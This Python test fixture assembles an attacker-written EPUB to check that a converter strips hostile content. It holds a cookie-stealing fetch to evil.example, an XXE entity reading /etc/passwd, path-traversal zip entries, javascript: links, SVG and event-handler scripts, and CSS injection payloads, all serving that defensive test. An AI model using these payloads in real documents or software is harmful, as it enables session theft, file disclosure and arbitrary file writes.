"""An EPUB 3 written by an attacker: what its read-along book must not carry over."""

from __future__ import annotations

from pathlib import Path

from helpers.books import write_zip

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)

OPF = """<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
 <metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
  <dc:identifier id="id">urn:uuid:6f1c3a1e-0000-4000-8000-00000000beef</dc:identifier>
  <dc:title>The Keeper\uffff's Trap</dc:title><dc:language>en</dc:language>
  <meta property="dcterms:modified">2026-01-01T00:00:00Z</meta></metadata>
 <manifest>
  <item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
  <item id="ch1" href="text/ch1.xhtml" media-type="application/xhtml+xml" properties="scripted remote-resources"/>
  <item id="ch2" href="text/ch2.xhtml" media-type="application/xhtml+xml"/>
  <item id="css" href="style.css" media-type="text/css"/>
  <item id="pic" href="pic.png" media-type="image/png"/>
  <item id="art" href="art.svg" media-type="image/svg+xml"/>
  <item id="evil" href="../../../../tmp/x/evil.xhtml" media-type="application/xhtml+xml"/>
  <item id="js" href="app.js" media-type="application/javascript"/>
 </manifest>
 <spine><itemref idref="nav" linear="no"/><itemref idref="ch1"/><itemref idref="ch2"/><itemref idref="evil"/></spine>
</package>"""

NAV = """<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head>
<body><nav epub:type="toc" id="toc"><h1>Contents</h1><ol>
<li><a href="text/ch1.xhtml">The Stairs</a></li><li><a href="text/ch2.xhtml">The Lamp</a></li>
<li><a href="../../../../etc/passwd">Escape</a></li><li><a href="javascript:alert(1)">Click</a></li>
</ol></nav></body></html>"""

CH1 = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [<!ENTITY keeper "the old keeper"><!ENTITY secret SYSTEM "file:///etc/passwd">]>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>The Stairs</title>
<meta http-equiv="refresh" content="0; url=http://evil.example/"/>
<link rel="stylesheet" type="text/css" href="../style.css"/>
<link rel="stylesheet" type="text/css" href="http://evil.example/x.css"/>
<base href="http://evil.example/"/>
<script type="text/javascript">fetch("http://evil.example/?c=" + document.cookie)</script>
<style>@import url("http://evil.example/i.css"); p { background: url(https://evil.example/bg.png) }</style>
</head>
<body onload="steal()"><h1 id="top">The Stairs</h1>
<p id="p1" onclick="steal()" style="background: url('http://evil.example/s.png')">
Then &keeper; climbed the stairs. &secret;</p>
<p id="p1">The lamp was cold and \uffffdark.</p>
<p><a href="javascript:steal()">A link that runs.</a> <a href="https://example.org/about">A link out.</a>
<a href="../../../outside.xhtml">A link outside.</a> <a href="ch2.xhtml#start">A link on.</a></p>
<img src="http://evil.example/track.png" alt="tracking"/><img src="../pic.png" alt="A small picture"/>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object>
<embed src="evil.swf"/>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>steal()</script>
<a href="#top"><set attributeName="href" to="javascript:steal()"/><rect width="10" height="10"/></a></svg>
</body></html>"""

CH2 = """<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>The Lamp</title></head>
<body><h1 id="start">The Lamp</h1><p>Ships waited beyond the rocks.</p><p>Morning came at last.</p></body></html>"""

CSS = """@import url("http://evil.example/more.css");
@import "../../../../etc/other.css";
body { background: url(https://evil.example/bg.png); behavior: url(evil.htc) }
p { background-image: u\\72l(http://evil.example/escaped.png); color: #222 }
h1 { width: expression(alert(1)) }
img { border: 0 }
"""

SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
<script>steal()</script><image xlink:href="http://evil.example/a.png" width="5" height="5"/>
<rect width="10" height="10" onmouseover="steal()"/></svg>"""


def make_hostile_epub(path: Path) -> Path:
    files: dict[str, str | bytes] = {
        "META-INF/container.xml": '<?xml version="1.0"?><container version="1.0" '
        'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
        "OEBPS/content.opf": OPF,
        "OEBPS/nav.xhtml": NAV,
        "OEBPS/text/ch1.xhtml": CH1,
        "OEBPS/text/ch2.xhtml": CH2,
        "OEBPS/style.css": CSS,
        "OEBPS/pic.png": PNG,
        "OEBPS/art.svg": SVG,
        "OEBPS/app.js": "steal()",
        "../../../tmp/x/evil.xhtml": CH2,  # the item above: a name that leaves the folder it is unpacked in
        "../../../../tmp/y/evil.xhtml": CH2,  # and one the package does not list
        "OEBPS/secret.txt": "not listed in the package",
        "META-INF/signatures.xml": "<signatures/>",
    }
    return write_zip(path, files)
